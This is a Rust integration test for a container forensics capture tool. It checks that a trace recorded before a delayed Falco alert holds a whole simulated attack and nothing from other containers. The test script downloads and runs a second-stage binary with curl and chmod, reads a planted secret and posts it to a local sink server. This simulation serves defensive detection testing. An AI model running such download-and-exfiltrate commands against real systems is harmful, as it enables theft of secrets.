//! The whole way: an attack in a container that is gone by the time of its alert, and the capture that has all of it.

mod support;

use afterimage_format::file::{Trace, verify};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use support::doors::{Doors, Wanted, falco, now, ready_after};
use support::{Bundle, can_run_containers, count, holds, select};

/// How late alerts come.
const LATE: Duration = Duration::from_secs(20);

/// A server that gives everybody `content`, and keeps what it is sent.
fn serve(content: Vec<u8>) -> (u16, Arc<Mutex<Vec<u8>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let got = Arc::new(Mutex::new(Vec::new()));
    let keep = Arc::clone(&got);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut piece = [0; 4096];
            // What is asked here is short.
            let length = stream.read(&mut piece).unwrap_or(0);
            keep.lock().unwrap().extend_from_slice(&piece[..length]);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                content.len()
            );
            let _ = stream.write_all(&content);
        }
    });
    (port, got)
}

struct Attack {
    id: String,
    began: u64,
}

impl Attack {
    /// Shell, download, second stage, a file that is secret, out of the house.
    fn run(dir: &std::path::Path, name: &str, download: u16, sink: u16) -> Attack {
        let id = format!("afterimage-{name}-{}", std::process::id());
        let script = format!(
            "curl -s -o /data/{name}-stage http://127.0.0.1:{download}/{name}; chmod 755 /data/{name}-stage\n\
             secret=$(/data/{name}-stage /data/{name}-secret)\n\
             curl -s -o /dev/null -d \"$secret\" http://127.0.0.1:{sink}/{name}\n\
             exit 7"
        );
        let bundle = Bundle::new(dir, &id, &["/bin/sh", "-c", &script]).on_the_hosts_network();
        std::fs::write(bundle.data().join(format!("{name}-secret")), format!("{name}-hunter2")).unwrap();
        let began = now();
        let output = bundle.run(&id);
        assert_eq!(output.status.code(), Some(7), "{output:?}");
        // It is deleted.
        assert!(!bundle.runc(&["state", &id]).output().unwrap().status.success());
        Attack { id, began }
    }
}

fn check(attack: &Attack, name: &str, others: &[&str], trace: &Trace, ports: [u16; 2]) {
    let id = &attack.id;
    // From its first call, which is runc's as it becomes the container's program, to its last.
    let first = select(trace, "evt.type = execve and evt.dir = < and evt.rawres = 0", |row| {
        String::from_utf8_lossy(&row.thread().unwrap().comm).into_owned()
    });
    // A program's name is cut at 15 bytes by the kernel.
    let stage: String = format!("{name}-stage").chars().take(15).collect();
    assert_eq!(first, ["sh", "curl", "chmod", stage.as_str(), "curl"], "{name}");
    let ends = select(trace, "evt.type = procexit", |row| {
        String::from_utf8_lossy(&row.thread().unwrap().comm).into_owned()
    });
    assert_eq!(ends.last().map(String::as_str), Some("sh"), "{name}: {ends:?}");
    let is_there = |what: &str, filter: &str| assert!(count(trace, filter) > 0, "{name}: {what}: {filter}");
    let [download, sink] = ports;
    is_there(
        "download",
        &format!("evt.type = connect and fd.sport = {download} and proc.name = curl"),
    );
    is_there(
        "what was written",
        &format!("evt.type in (write, pwrite64) and fd.name = /data/{name}-stage"),
    );
    is_there(
        "the secret",
        &format!("evt.type = read and fd.name = /data/{name}-secret and proc.name = {stage}"),
    );
    is_there(
        "the way out",
        &format!("evt.type = connect and fd.sport = {sink} and proc.name = curl"),
    );
    is_there(
        "what went out",
        &format!("evt.type in (sendto, write, sendmsg) and evt.buffer contains {name}-hunter2"),
    );
    assert!(holds(trace, &format!("{name}-secret")));
    // And nothing of anybody else: events, names, processes.
    assert_eq!(count(trace, &format!("not container.id = {id}")), 0);
    for other in others.iter().copied().chain(["agent_attack"]) {
        assert!(!holds(trace, other), "{name} holds {other}");
    }
    for at in 0..trace.segment_count() {
        let segment = trace.segment(at).unwrap();
        let containers: Vec<u64> = segment
            .containers()
            .unwrap()
            .iter()
            .map(|container| container.key)
            .collect();
        for thread in segment.threads().unwrap() {
            assert!(
                containers.contains(&thread.container),
                "{name}: a stranger's process: {thread:?}"
            );
        }
        assert!(
            segment
                .containers()
                .unwrap()
                .iter()
                .all(|container| container.full_id == *id)
        );
    }
}

/// Falco's alert comes 20 s after the attack began, once with the time of the attack and once without; somebody else works on
/// beside it all the time.
#[test]
fn an_attack_is_there_from_its_first_call_though_its_alert_comes_late() {
    let name = "an_attack_is_there_from_its_first_call_though_its_alert_comes_late";
    if !can_run_containers(name) || !support::has(name, "curl") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let doors = Doors::start(
        dir.path(),
        &Wanted {
            // What other tests do at the same time must fit, too: losses are everybody's.
            recording: "kernel_ring = '64MiB'",
            sources: &["falco"],
            captures: "pre = '60s'\npost = '500ms'",
            ..Wanted::default()
        },
    );
    let tenant = format!("afterimage-tenant-{}", std::process::id());
    let script = "while :; do cat /data/outsidemarker; sleep 0.05; done";
    let other = Bundle::new(dir.path(), &tenant, &["/bin/sh", "-c", script]);
    std::fs::write(other.data().join("outsidemarker"), "outsidemarker").unwrap();
    let working = other.start(&tenant);
    let (download, _) = serve(std::fs::read("/usr/bin/cat").unwrap());
    let (sink, stolen) = serve(Vec::new());
    let start = Instant::now();
    let names = ["timed", "untimed"];
    let attacks = names.map(|name| Attack::run(dir.path(), name, download, sink));
    assert!(String::from_utf8_lossy(&stolen.lock().unwrap()).contains("untimed-hunter2"));
    std::thread::sleep(LATE.saturating_sub(start.elapsed()));
    let alerts: Vec<String> = names
        .iter()
        .zip(&attacks)
        .map(|(name, attack)| falco(name, &attack.id, (*name == "timed").then_some(attack.began)).to_string())
        .collect();
    let captures: Vec<String> = alerts.iter().map(|alert| doors.captured("falco", alert)).collect();
    for (at, name) in names.iter().enumerate() {
        let (capture, attack) = (&captures[at], &attacks[at]);
        let summary = doors.agent.ended(capture);
        assert_eq!(summary["result"], "complete", "{summary}");
        let late = ready_after(&doors.agent, capture, &summary);
        println!("{name}: ready {late:?} after the end of its time");
        assert!(late < Duration::from_secs(5), "{late:?}");
        let trace = doors.agent.trace(capture);
        let others = [
            names[1 - at],
            tenant.as_str(),
            "outsidemarker",
            attacks[1 - at].id.as_str(),
        ];
        // "timed" is in "untimed".
        let others = if at == 1 { &others[1..] } else { &others[..] };
        check(attack, name, others, &trace, [download, sink]);
        let attached = trace.attachments().to_vec();
        assert_eq!(attached.len(), 1);
        assert_eq!(
            trace.attachment(&attached[0]).unwrap(),
            alerts[at].as_bytes(),
            "the alert as it came"
        );
        assert!(
            verify(&doors.agent.folder().join(format!("{capture}.scap")), &[])
                .unwrap()
                .is_intact()
        );
        assert_eq!(
            (&summary["events"], &summary["losses"]["events"], &summary["sealed"]),
            (&trace.totals().events.into(), &0.into(), &Value::Bool(true)),
            "{summary}"
        );
    }
    drop(working);
}
